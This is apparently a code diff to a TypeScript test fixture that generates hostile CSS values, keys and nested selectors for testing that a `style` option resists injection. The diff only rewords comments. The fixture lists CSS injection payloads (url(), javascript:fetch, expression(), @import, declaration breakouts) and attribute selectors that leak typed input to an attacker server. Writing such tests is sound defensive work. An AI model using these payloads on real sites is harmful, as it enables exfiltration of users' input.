@@ -1,6 +1,6 @@
 /**
- * Styles of an attacker, for the `style` option: values, keys and nested keys that would load something, end the
- * declaration, or read what is typed. Each address in them is another one, so that the server's log names the rule.
+ * An attacker's styles for the `style` option: values, keys and nested keys that would load something, end the
+ * declaration, or read what is typed. Each has a different address, so that the server's log identifies the rule.
  */
 
 /** One declaration of an attacker. */
@@ -29,7 +29,7 @@ const properties = [
 
 const pseudos = [':hover', ':focus', ':disabled', '::placeholder', '::selection', ':-webkit-autofill']
 
-/** @param address Gives a new address of the attacker's server each time. */
+/** @param address Returns a new address of the attacker's server each time. */
 export function hostileValues(address: () => string): string[] {
   const url = (): string => `url(${address()})`
   return [
@@ -60,7 +60,7 @@ export function hostileValues(address: () => string): string[] {
     `url(javascript:fetch('${address()}'))`,
     'url(#x)',
     'url()',
-    // Other functions that load, or that bring something in from elsewhere.
+    // Other functions that load something, or insert a value from elsewhere.
     `src("${address()}")`,
     `image("${address()}")`,
     `image-set("${address()}" 1x)`,
@@ -101,7 +101,7 @@ export function hostileValues(address: () => string): string[] {
     `expression(fetch("${address()}"))`,
     `javascript:fetch("${address()}")`,
     `progid:DXImageTransform.Microsoft.AlphaImageLoader(src="${address()}")`,
-    // What ends the declaration, the rule or the sheet.
+    // Texts that end the declaration, the rule or the sheet.
     `red; background: ${url()}`,
     `red;background-image:${url()} !important`,
     `red;--x:${url()};background:var(--x)`,
@@ -127,7 +127,7 @@ export function hostileValues(address: () => string): string[] {
     `<!-- red --> ${url()}`,
     `@import "${address()}"`,
     `@import ${url()} layer(x)`,
-    // Rubbish of other kinds.
+    // Other malformed values.
     `red${' '.repeat(120)}${url()}`,
     'x'.repeat(129),
     'x'.repeat(20_000),
@@ -150,7 +150,7 @@ export function hostileValues(address: () => string): string[] {
   ]
 }
 
-/** Keys that are no property of the option, with a value that would load something as the property. */
+/** Keys that are not properties of the option, with a value that would load something. */
 function hostileKeys(address: () => string): [key: string, value: string][] {
   return [
     ...['background', 'backgroundImage', 'background-image', 'content', 'cursor', 'filter', 'backdropFilter'],
@@ -181,7 +181,7 @@ function hostileKeys(address: () => string): [key: string, value: string][] {
   ].map((key) => [key, `url(${address()})`])
 }
 
-/** Keys of nested rules that are none of the option's. */
+/** Keys of nested rules that the option does not have. */
 const hostileNested: readonly string[] = [
   ...['::before', '::after', ':has(*)', ':hover, body', ':hover,body', ':not(:hover)', '[value^="4"]'],
   ...[
@@ -213,8 +213,8 @@ const hostileNested: readonly string[] = [
 ]
 
 /**
- * Packs everything into styles that `create` and `update` take. The plain rules of `base` and `empty` are left to
- * harmless declarations, by which one sees that the rest of the option is still in effect.
+ * Puts everything into styles for `create` and `update`. The plain rules of `base` and `empty` have harmless
+ * declarations, which show that the rest of the option still applies.
  */
 export function hostileStyles(address: () => string): {
   styles: Record<string, object>[]
@@ -242,7 +242,7 @@ export function hostileStyles(address: () => string): {
   return { styles: batches.map(styleOf), rules: batches.flat() }
 }
 
-/** What each style has beside the hostile rules, in effect while the field is empty. */
+/** The harmless part of each style, which applies while the field is empty. */
 export const harmless = { color: 'rgb(1, 2, 3)', letterSpacing: '3px' } as const
 
 function styleOf(rules: readonly HostileRule[]): Record<string, object> {
@@ -258,7 +258,10 @@ function styleOf(rules: readonly HostileRule[]): Record<string, object> {
   return style
 }
 
-/** The object under a key, made when there is none: a key such as `constructor` finds none of the language's. */
+/**
+ * The object under a key, which is created if there is none. A key such as `constructor` does not find a built-in
+ * property.
+ */
 function entryOf(owner: Record<string, unknown>, key: string): Record<string, unknown> {
   if (!Object.hasOwn(owner, key)) owner[key] = {}
   return owner[key] as Record<string, unknown>
